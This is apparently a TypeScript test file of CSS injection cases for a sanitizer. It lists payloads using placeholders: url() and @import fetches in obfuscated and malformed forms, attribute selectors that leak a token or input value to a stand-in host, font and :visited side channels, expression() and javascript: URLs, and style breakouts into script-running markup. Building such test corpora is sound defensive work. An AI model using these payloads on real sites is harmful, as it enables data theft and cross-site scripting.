// CSS that fetches, reads or runs: in style elements and in style attributes.
import { type Attack, body } from './attack.ts';

const sheet = (name: string, css: string, html = '<p class=a>x</p>'): Attack =>
  body(name, `<style>${css}</style>${html}`);

const declared = (name: string, css: string): Attack =>
  body(name, `<div style="${css.replaceAll('"', '&quot;')}">x</div>`);

/** Every property that takes a picture, a shape, a font or another file. */
const TAKERS =
  'background background-image list-style list-style-image border-image border-image-source content cursor filter backdrop-filter mask mask-image -webkit-mask-image -webkit-mask-box-image -webkit-box-reflect clip-path shape-outside offset-path marker marker-start fill stroke src behavior -moz-binding d'.split(
    ' ',
  );

export const STYLES: readonly Attack[] = [
  declared('a URL in every property', TAKERS.map((name, at) => `${name}:url(LEAK/p${at})`).join(';')),
  sheet(
    'a URL in every property of a sheet',
    `.a,.a::before{${TAKERS.map((name, at) => `${name}:url("LEAK/s${at}")`).join(';')}}`,
  ),
  declared(
    'functions that take an address as a string',
    `background-image:image-set("LEAK/1" 1x);background-image:-webkit-image-set("LEAK/2" 1x);background:image("LEAK/3");background:cross-fade(url(LEAK/4),url(LEAK/5),50%);background:-webkit-cross-fade(url(LEAK/6),url(LEAK/7),50%);background:src("LEAK/8");background:element(#x);background:-moz-element(#x);background:paint(x)`,
  ),
  sheet(
    'imports in all spellings',
    '@import"LEAK/1";@import url(LEAK/2);@IMPORT/**/"LEAK/3";@import url("LEAK/4") layer(x) supports(display:grid) screen;@\\49mport "LEAK/5";\n@charset "utf-8";@import\'LEAK/6\'',
  ),
  sheet(
    'an import behind rubbish',
    '}}]]);@import "LEAK/1";{}@import "LEAK/2";<!--@import "LEAK/3";-->@import "LEAK/4',
  ),
  sheet(
    'fonts from elsewhere',
    '@font-face{font-family:spy;src:url(LEAK/1) format("woff"),local("x");unicode-range:U+41}@font-face{font-family:b;src:url(LEAK/2)}@font-feature-values x{@styleset{a:1}}@font-palette-values --x{font-family:b}.a{font-family:spy,b}',
    '<p class=a>A</p>',
  ),
  sheet(
    'at-rules that name files',
    '@namespace svg url(LEAK/1);@document url(LEAK/2){p{color:red}}@page{background:url(LEAK/3)}@counter-style x{symbols:url(LEAK/4)}@color-profile --x{src:url(LEAK/5)}@property --u{syntax:"<url>";inherits:true;initial-value:url(LEAK/6)}@view-transition{navigation:auto}',
  ),
  sheet(
    'rules inside rules',
    '@supports(display:block){@media all{@layer a{@scope(p){@container(min-width:1px){@starting-style{.a{background:url(LEAK/1)}}}}}}}.a{&:hover{background:url(LEAK/2)}@media all{background:url(LEAK/3)}}',
  ),
  sheet(
    'variables that hold an address',
    ':root{--u:url(LEAK/1);--s:"LEAK/2"}.a{background:var(--u);background:image-set(var(--s) 1x);background-image:env(x,url(LEAK/3));background:attr(title type(<url>));background:if(style(--u):url(LEAK/4))}',
  ),
  declared(
    'an attribute as an address',
    'background:attr(data-x url);content:attr(title);background-image:image-set(attr(data-x) 1x)',
  ),
  sheet(
    'escapes in names and functions',
    '.a{b\\ackground:url(LEAK/1);\\62 ackground:\\75rl(LEAK/2);background:u\\72l(LEAK/3);background:\\000075\\000072\\00006c(LEAK/4);back\\\nground:url(LEAK/5);background:url(\\68ttp://HOST/6)}',
  ),
  sheet('an address that never ends', '.a{background:url(LEAK/1;color:red}.b{background:url("LEAK/2}'),
  sheet(
    'a string that never ends',
    '.a{font-family:"LEAK;}.b{background:url(LEAK/1)}\n.c{background:url(LEAK/2)}',
  ),
  sheet(
    'a comment that never ends',
    '.a{color:red}/*.b{}</style><img src=x onerror=RUN><style>*/.a{background:url(LEAK/1)}',
  ),
  sheet(
    'ends the style element',
    '.a{content:"</style><img src=x onerror=RUN>"}.a{content:"<\\/style><script>RUN</script>"}</style ><img src=x onerror=RUN>',
  ),
  sheet(
    'CDO, CDC and NUL',
    '<!-- .a{background:url(LEAK/1)} -->.a{back\0ground:url(LEAK/2);background:u\0rl(LEAK/3)}',
  ),
  sheet(
    'addresses with odd spaces',
    '.a{background:url(  "LEAK/1"  );background:URL(LEAK/2);background:url(\nLEAK/3\n);background:uRl(\'LEAK/4\');background:url(//HOST/5);background:url(/\\HOST/6)}',
  ),
  sheet(
    'reads the attributes of links',
    'a[href*="token=a"]{background:url(LEAK/a)}a[href*="token=b"]{background:url(LEAK/b)}input[value^=s]{background:url(LEAK/c)}',
    '<a href="https://example.org/?token=abc">x</a><input value=secret>',
  ),
  sheet(
    'reads visited links',
    'a:visited{background:url(LEAK/v);color:red}a:link{background:url(LEAK/n)}',
    '<a href="https://example.org/">x</a>',
  ),
  sheet(
    'reads the text by fonts and scroll bars',
    '@font-face{font-family:w;src:url(LEAK/w1);unicode-range:U+53}p{font-family:w;overflow:auto}p::-webkit-scrollbar{background:url(LEAK/w2)}p::first-line{background:url(LEAK/w3)}p::selection{background:url(LEAK/w4)}',
    '<p>Secret</p>',
  ),
  sheet(
    'reads where the pointer is',
    'p:hover{background:url(LEAK/h1)}p:active{background:url(LEAK/h2)}:focus{background:url(LEAK/h3)}:target{background:url(LEAK/h4)}html:focus-within{background:url(LEAK/h5)}@media print{p{background:url(LEAK/h6)}}@media(prefers-color-scheme:dark){p{background:url(LEAK/h7)}}@media(width:390px){p{background:url(LEAK/h8)}}',
  ),
  sheet(
    'animations that fetch',
    '@keyframes k{from{background:url(LEAK/1)}to{list-style-image:url(LEAK/2)}}@-webkit-keyframes k{0%{background:url(LEAK/3)}}.a{animation:k 1s infinite;transition:background 1s}',
  ),
  sheet(
    'pseudo-elements that write',
    '.a::before{content:url(LEAK/1)}.a::after{content:"Your session has ended" counter(x) attr(title)}.a::marker{content:url(LEAK/2)}body::before{content:image-set("LEAK/3" 1x)}',
  ),
  declared(
    'CSS that ran once',
    'width:expression(RUN);background:url(javascript:RUN);-moz-binding:url(LEAK/b.xml#x);behavior:url(#default#time2);xss:expr/**/ession(RUN);background-image:url(data:text/html,<script>RUN</script>)',
  ),
  declared(
    'breaks out of the attribute',
    `color:red"><img src=x onerror=RUN>;font-family:'"><script>RUN</script>';background:url('"><img src=x onerror=RUN>')`,
  ),
  declared(
    'a family name with markup',
    `font-family:</style><img src=x onerror=RUN>,"</style><script>RUN</script>"`,
  ),
  declared(
    'rubbish between declarations',
    'color:red;}*{background:url(LEAK/1)}p{;;{background:url(LEAK/2)};@import "LEAK/3";/*;*/background:url(LEAK/4)',
  ),
  sheet(
    'a media query with an address',
    '@media url(LEAK/1){p{color:red}}@media screen and (x:url(LEAK/2)){p{color:red}}@media \\75rl(x),all{.a{background:url(LEAK/3)}}',
  ),
  body(
    'sheets with attributes',
    '<style media="all and (x:url(LEAK/1))" type="text/css" onload=RUN title=x blocking=render>p{background:url(LEAK/2)}</style><style type="text/less">@import "LEAK/3";</style><style media="</style><img src=x onerror=RUN>">p{}</style><p>x',
  ),
  sheet(
    'selectors with markup',
    'p[title="</style><img src=x onerror=RUN>"]{color:red}a\\<b{color:red}p:not(<img src=x onerror=RUN>){color:red}:has(a[href="LEAK"]){background:url(LEAK/1)}',
  ),
];
